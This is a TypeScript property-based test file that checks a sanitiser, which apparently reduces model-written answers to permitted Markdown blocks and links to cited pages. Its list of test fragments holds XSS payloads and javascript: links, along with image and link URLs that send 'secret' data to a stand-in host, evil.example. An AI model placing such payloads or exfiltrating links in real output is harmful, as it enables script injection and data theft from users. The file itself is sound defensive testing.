/** The output of a model is closed: of all text, only permitted blocks and links to cited pages remain. */
import { closeAnswer } from "@lectern/answers"
import { runs } from "@lectern/harness"
import { fromMarkdown } from "@lectern/markdown"
import { isCheapToParse } from "@lectern/markdown/document"
import fc from "fast-check"
import { describe, expect, it } from "vitest"

const cited = "/spaces/guide/pages/install"
const resolve = (number: number): string | undefined => (number === 1 ? cited : undefined)

/** Everything that names a target or markup in a document, by its path. */
const targetsOf = (value: unknown): ReadonlyArray<string> => {
  if (typeof value !== "object" || value === null) return []
  const node = value as { readonly ref?: object; readonly object?: string; readonly type?: string }
  return [
    ...(node.ref === undefined ? [] : [JSON.stringify(node.ref)]),
    ...(node.object === undefined || node.type === undefined ? [] : [node.type]),
    ...Object.values(value).flatMap(targetsOf)
  ]
}

const permitted = new Set([
  ...[
    "paragraph",
    "heading-3",
    "blockquote",
    "list-unordered",
    "list-ordered",
    "list-item",
    "code",
    "code-line"
  ],
  ...["table", "table-cell", "divider", "link", "text", "emoji", "bold", "italic", "strikethrough", "code"],
  JSON.stringify({ kind: "page", page: "install", space: "guide" })
])

const violationsIn = (text: string): ReadonlyArray<string> => {
  const { document, markdown } = closeAnswer(text, resolve)
  return [...targetsOf(document), ...targetsOf(fromMarkdown(markdown))].filter(
    (found) => !permitted.has(found)
  )
}

/** Markup that a hostile model or page can contain. */
const fragments = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<iframe src=https://evil.example></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<details><summary>x</summary>",
  "[x](javascript:alert(1))",
  "[x](data:text/html,<script>)",
  "[x](https://evil.example/?q=secret)",
  "![x](https://evil.example/p.png?q=secret)",
  "![x][1]",
  "[1]",
  "[1, 2]",
  "[2]",
  "[x][1]",
  "\n\n[1]: https://evil.example\n\n",
  "https://evil.example/secret",
  "www.evil.example",
  "mailto:a@evil.example",
  "a@evil.example",
  "<https://evil.example>",
  '\n\n{% embed url="https://evil.example" %}\n\n',
  '\n\n{% include "/reusable-contents/secret" %}\n\n',
  '\n\n{% openapi src="https://evil.example" %}\n{% endopenapi %}\n\n',
  '\n\n{% file src="/files/secret" %}\n\n',
  '\n\n{% hint style="info" %}\nx\n{% endhint %}\n\n',
  "{{ secret }}",
  '<code class="expression">space.vars.secret</code>',
  "$$x$$",
  "[^1]",
  "\n\n[^1]: note\n\n",
  ":smile:",
  "`code`",
  "\n\n```sh\nx\n```\n\n",
  "\n\n| a | b |\n| - | - |\n| c | d |\n\n",
  "\n- item\n",
  "\n1. item\n",
  "\n> quote\n",
  "\n\n# Heading\n\n",
  "*",
  "**",
  "_",
  "~~",
  "`",
  "\\",
  "]",
  "(",
  "<",
  "|",
  " ",
  "\n",
  "text"
]

describe("an answer", () => {
  it("has only permitted blocks, and links only to cited pages", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 24 }), (parts) => {
        expect(violationsIn(parts.join(""))).toEqual([])
      }),
      runs(400)
    )
  })

  it("is closed however it is truncated", () => {
    const text = fragments.join("\n\n")
    for (let length = 0; length <= text.length; length += 29) {
      expect(violationsIn(text.slice(0, length))).toEqual([])
    }
  })

  it("keeps text, emphasis, code, lists, tables and citations", () => {
    const text = "Run *it* with `npm ci` [1].\n\n```sh\nnpm ci\n```\n\n- a\n- b\n\n| a |\n| - |\n| b |\n"
    const { markdown, cited: numbers } = closeAnswer(text, resolve)
    expect(markdown).toBe(
      `Run *it* with \`npm ci\` [\\[1\\]](${cited}).\n\n\`\`\`sh\nnpm ci\n\`\`\`\n\n- a\n- b\n\n| a |\n| --- |\n| b |\n`
    )
    expect(numbers).toEqual([1])
  })

  it("omits citations of pages that are not in the context", () => {
    const { markdown, cited: numbers } = closeAnswer("One [1, 7] and two [9].", resolve)
    expect(markdown).toBe(`One [\\[1\\]](${cited}) and two .\n`)
    expect(numbers).toEqual([1])
  })

  it("displays URLs and e-mail addresses as code", () => {
    expect(closeAnswer("See https://evil.example/a and a@evil.example", resolve).markdown).toBe(
      "See `https://evil.example/a` and `a@evil.example`\n"
    )
  })
})

/** Whether all of a document is one block of code, which takes no time to parse. */
const isCode = ({ nodes }: ReturnType<typeof closeAnswer>["document"]): boolean =>
  nodes.length === 1 && nodes[0]?.object === "block" && nodes[0].type === "code"

it("is code if its text or the closed Markdown takes long to parse", () => {
  const repeated = fc
    .tuple(
      fc.constantFrom(...fragments, "[a](", "*a_ ", "[1]", "[", "|a|\n", "- a\n", "> ", "`a``b", "&", "**"),
      fc.integer({ min: 1, max: 4_000 })
    )
    .map(([fragment, count]) => fragment.repeat(count).slice(0, 32_000))
  fc.assert(
    fc.property(repeated, (text) => {
      const { document, markdown } = closeAnswer(text, resolve)
      expect(isCode(document) || (isCheapToParse(text) && isCheapToParse(markdown))).toBe(true)
    }),
    runs(60)
  )
  expect(isCode(closeAnswer("[a](".repeat(1_400), resolve).document)).toBe(true)
})
